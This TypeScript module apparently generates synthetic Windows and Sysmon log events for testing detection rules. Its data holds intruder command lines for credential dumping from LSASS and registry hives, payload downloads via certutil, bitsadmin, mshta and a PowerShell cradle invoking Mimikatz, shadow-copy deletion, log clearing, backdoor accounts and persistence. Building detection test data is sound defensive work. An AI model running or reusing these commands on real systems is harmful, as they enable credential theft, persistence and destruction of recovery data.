import type { Dice } from './dice.ts';
import { scriptBlock, serviceInstalled } from './other_events.ts';
import { processStarted } from './security_events.ts';
import {
  fileCreated,
  libraryLoaded,
  nameAsked,
  processCreated,
  processOpened,
  registryValue,
} from './sysmon_events.ts';
import type { Moment } from './windows_events.ts';

const s32 = 'C:\\Windows\\System32';

/** Image and arguments of what intruders run with a system's own programs. */
const runs: readonly [image: string, args: (dice: Dice) => string][] = [
  [
    'WindowsPowerShell\\v1.0\\powershell.exe',
    (dice) => ` -nop -w hidden -enc ${Buffer.from(`IEX ${dice.name(30)}`, 'utf16le').toString('base64')}`,
  ],
  [
    'certutil.exe',
    (dice) =>
      ` -urlcache -split -f http://198.51.100.${dice.below(255)}/${dice.name(6)}.bin C:\\Users\\Public\\${dice.name(5)}.exe`,
  ],
  [
    'rundll32.exe',
    (dice) =>
      ` ${s32}\\comsvcs.dll, MiniDump ${600 + dice.below(90)} C:\\Windows\\Temp\\${dice.name(4)}.dmp full`,
  ],
  ['vssadmin.exe', () => ' delete shadows /all /quiet'],
  ['wevtutil.exe', (dice) => ` cl ${dice.one(['Security', 'System', 'Application'])}`],
  [
    'reg.exe',
    (dice) => ` save HKLM\\${dice.one(['SAM', 'SECURITY', 'SYSTEM'])} C:\\Windows\\Temp\\${dice.name(4)}.hiv`,
  ],
  ['net.exe', (dice) => ` user ${dice.name(6)} ${dice.hex(10)} /add`],
  [
    'schtasks.exe',
    (dice) =>
      ` /create /sc minute /mo 5 /tn ${dice.name(6)} /tr "powershell -w hidden C:\\Users\\Public\\${dice.name(5)}.ps1" /ru SYSTEM`,
  ],
  ['whoami.exe', () => ' /all'],
  ['nltest.exe', () => ' /domain_trusts /all_trusts'],
  [
    'bitsadmin.exe',
    (dice) =>
      ` /transfer job /download /priority high http://203.0.113.${dice.below(255)}/a.exe C:\\Users\\Public\\a.exe`,
  ],
  ['mshta.exe', (dice) => ` http://203.0.113.${dice.below(255)}/${dice.name(5)}.hta`],
];

type Changed = Readonly<Record<string, string>>;

function run(dice: Dice): { image: string; line: string } {
  const [name, args] = dice.one(runs);
  const image = `${s32}\\${name}`;
  return { image, line: `${image.slice(image.lastIndexOf('\\') + 1)}${args(dice)}` };
}

function created(dice: Dice, moment: Moment): Changed {
  const { image, line } = run(dice);
  return processCreated(dice, moment, {
    Image: image,
    OriginalFileName: image.slice(image.lastIndexOf('\\') + 1),
    CommandLine: line,
    ParentImage: `${s32}\\cmd.exe`,
    ParentCommandLine: 'cmd.exe /Q /c',
  });
}

function started(dice: Dice, moment: Moment): Changed {
  const { image, line } = run(dice);
  return processStarted(dice, moment, { NewProcessName: image, CommandLine: line });
}

/** Data, by event id, that rules are written for; in place of an ordinary event's. */
export const suspicious: Readonly<Record<number, (dice: Dice, moment: Moment) => Changed>> = {
  1: created,
  4688: started,
  7: (dice, moment) => ({
    ...libraryLoaded(dice, moment),
    ImageLoaded: `C:\\Users\\Public\\${dice.name(6)}\\version.dll`,
    Signed: 'false',
    Signature: '-',
    SignatureStatus: 'Unavailable',
  }),
  10: (dice, moment) =>
    processOpened(dice, moment, {
      SourceImage: `C:\\Users\\Public\\${dice.name(6)}.exe`,
      TargetImage: `${s32}\\lsass.exe`,
      GrantedAccess: dice.one(['0x1010', '0x1410', '0x1fffff']),
    }),
  11: (dice, moment) => ({
    ...fileCreated(dice, moment),
    TargetFilename: `C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\${dice.name(6)}.vbs`,
  }),
  13: (dice, moment) => ({
    ...registryValue(dice, moment),
    TargetObject: `HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\${dice.name(6)}`,
    Details: `C:\\Users\\Public\\${dice.name(6)}.exe`,
  }),
  22: (dice, moment) => ({ ...nameAsked(dice, moment), QueryName: `${dice.name(8)}.ngrok.io` }),
  4104: (dice, moment) =>
    scriptBlock(dice, moment, {
      ScriptBlockText: `$c = New-Object Net.WebClient; IEX $c.DownloadString('http://203.0.113.7/${dice.name(5)}'); Invoke-Mimikatz -DumpCreds`,
    }),
  7045: (dice, moment) =>
    serviceInstalled(dice, moment, {
      ServiceName: dice.name(8),
      ImagePath: `%COMSPEC% /c echo ${dice.name(6)} > \\\\.\\pipe\\${dice.name(6)}`,
    }),
};
